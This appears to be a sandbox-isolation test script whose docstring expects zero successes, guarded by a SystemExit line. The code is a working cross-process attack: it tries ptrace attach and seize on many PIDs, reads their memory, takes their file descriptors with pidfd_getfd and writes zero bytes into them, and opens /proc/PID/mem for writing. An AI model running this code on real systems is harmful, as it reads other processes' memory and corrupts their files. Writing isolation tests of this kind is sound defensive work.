"""ptrace, process_vm_writev, pidfd_getfd, /proc/PID/mem on whatever there is.

Due: exactly 0
Base: wrong
"""
raise SystemExit("only corpus.py runs this, behind its walls")
# %% added
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(64)
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
for pid in [0, 1, 2, 3, os.getppid(), *range(4, 300)]:
    if pid == os.getpid():
        continue
    libc.ptrace(16, pid, 0, 0)
    libc.ptrace(0x4206, pid, 0, 0)
    here, there = Vector(ctypes.addressof(buffer), 64), Vector(0x400000, 64)
    if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
        print("read", pid)
    descriptor = libc.syscall(434, pid, 0)
    if descriptor >= 0:
        for number in range(20):
            stolen = libc.syscall(438, descriptor, number, 0)
            if stolen >= 0:
                print("stolen", pid, number)
                os.write(stolen, b"\0" * 8)
        os.close(descriptor)
    try:
        open(f"/proc/{pid}/mem", "r+b", buffering=0)
        print("memory of", pid)
    except OSError:
        pass
